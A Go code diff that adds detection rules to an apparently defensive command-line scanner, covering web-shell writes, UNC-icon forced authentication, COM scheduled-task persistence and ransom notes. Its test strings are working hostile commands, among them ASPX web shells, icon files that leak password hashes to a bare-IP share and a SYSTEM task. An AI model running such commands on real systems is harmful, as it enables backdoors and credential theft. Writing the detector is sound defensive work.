@@ -300,6 +300,37 @@ var textRules = []*textRule{
 		`(select-string|findstr|\bsls\b|-match|grep)\s[^\n]*(pass|secret|token|cred|key|asplaintext|securestring)`,
 		[]string{"Get-ChildItem -Path C:\\Users\\*\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt | Get-Content | Select-String -Pattern \"password|-AsPlainText\"", "Get-Content (Get-PSReadlineOption).HistorySavePath | Select-String password"},
 		[]string{"Get-Content (Get-PSReadlineOption).HistorySavePath | Select-String 'docker'"}),
+	// A page that runs what a request parameter says, written into a web
+	// folder: a web shell (ATT&CK T1505.003).
+	tr("web-shell-write", "persistence", high, "writes a web page that runs commands or code taken from a request (ATT&CK T1505.003)",
+		[]string{"request", "$_get", "$_post", "$_request"},
+		`(request\s*(\.item|\.form|\.querystring|\.params)?\s*\[|\$_(get|post|request)\s*\[)[\s\S]{0,200}?\b(eval|process\.start|shell_exec|passthru|system|exec|popen)\b|\b(eval|process\.start|shell_exec|passthru|system|popen|assert)\s*\([^)]{0,60}(request\s*(\.item|\.form|\.querystring)?\s*\[|\$_(get|post|request))`,
+		`\.(aspx?|ashx|asmx|jspx?|php\d?)\b`,
+		[]string{"echo ^<%@ Page Language=\"C#\" %^>^<% System.Diagnostics.Process.Start(\"cmd.exe\",\"/c \" + Request[\"c\"]); %^> > C:\\inetpub\\wwwroot\\help.aspx", "Set-Content -Path C:\\inetpub\\wwwroot\\status.aspx -Value '<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>'"},
+		[]string{"Set-Content -Path C:\\inetpub\\wwwroot\\index.html -Value '<h1>Maintenance</h1>'", "echo '<?php echo htmlspecialchars($_GET[\"q\"]); ?>' > search.php"}),
+	// Icons or folder settings pointing at a share on a bare address:
+	// whoever browses the folder sends a password hash there (ATT&CK T1187).
+	tr("forced-auth-unc-icon", "credential access", high, "plants a file whose icon loads from a share on a bare address, so that anyone who opens the folder sends it a password hash (ATT&CK T1187)",
+		[]string{"iconresource", "iconfile", "iconlocation", "imagepath"},
+		`(iconresource|iconfile|iconlocation)\s*=?\s*['"]?\\\\\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\\`,
+		``,
+		[]string{"echo [.ShellClassInfo] > \\\\fs01\\share\\desktop.ini & echo IconResource=\\\\192.0.2.152\\icon.ico >> \\\\fs01\\share\\desktop.ini", "$s=(New-Object -ComObject WScript.Shell).CreateShortcut('\\\\fs01\\share\\@readme.lnk'); $s.IconLocation='\\\\192.0.2.153\\s\\i.ico'; $s.Save()"},
+		[]string{"echo IconResource=C:\\Windows\\System32\\shell32.dll,4 >> desktop.ini"}),
+	// A scheduled task registered through the Task Scheduler's COM object
+	// with an action in a staging folder or a shell (ATT&CK T1053.005).
+	tr("task-com-register", "persistence", high, "registers a scheduled task through the Task Scheduler's COM object that runs a shell or a program from a user-writable folder (ATT&CK T1053.005)",
+		[]string{"schedule.service"},
+		`schedule\.service`,
+		`\.path\s*=\s*['"][^'"]*(\\users\\public\\|\\temp\\|\\appdata\\|\\programdata\\|powershell|\bcmd(\.exe)?['"]|mshta|rundll32|regsvr32|wscript|cscript)`,
+		[]string{"$t = New-Object -ComObject Schedule.Service; $t.Connect(); $f=$t.GetFolder('\\'); $d=$t.NewTask(0); $a=$d.Actions.Create(0); $a.Path='C:\\Users\\Public\\s.exe'; $f.RegisterTaskDefinition('upd',$d,6,'SYSTEM',$null,5)"},
+		[]string{"$t = New-Object -ComObject Schedule.Service; $t.Connect(); $t.GetFolder('\\').GetTasks(0) | Select-Object Name"}),
+	// A ransom note written out (ATT&CK T1486, T1491.001).
+	tr("ransom-note", "destructive filesystem", high, "writes a ransom note (ATT&CK T1486)",
+		[]string{"encrypted", "bitcoin", "btc", "monero", "decrypt"},
+		`(your (files|data|documents|network) (are|have been|were|is) (encrypted|locked)|pay\s+[\d.]+\s*(btc|bitcoin|xmr|monero)\b|send\s+[\d.]+\s*(btc|bitcoin)\b|to (get|recover) your (files|data) back)`,
+		`(>|set-content|out-file|add-content|-value\b|writealltext)`,
+		[]string{"echo Your files are encrypted. Pay 1 BTC > C:\\Users\\Public\\Desktop\\README_RESTORE.txt & notepad C:\\Users\\Public\\Desktop\\README_RESTORE.txt"},
+		[]string{"echo Build finished > C:\\build\\status.txt", "grep -r 'your files are encrypted' samples/"}),
 	tr("amsi-bypass", "defense evasion", high, "disables PowerShell's malware scanning (AMSI)",
 		[]string{"amsi"},
 		`amsiutils|amsiinitfailed|amsiscanbuffer|amsicontext`,
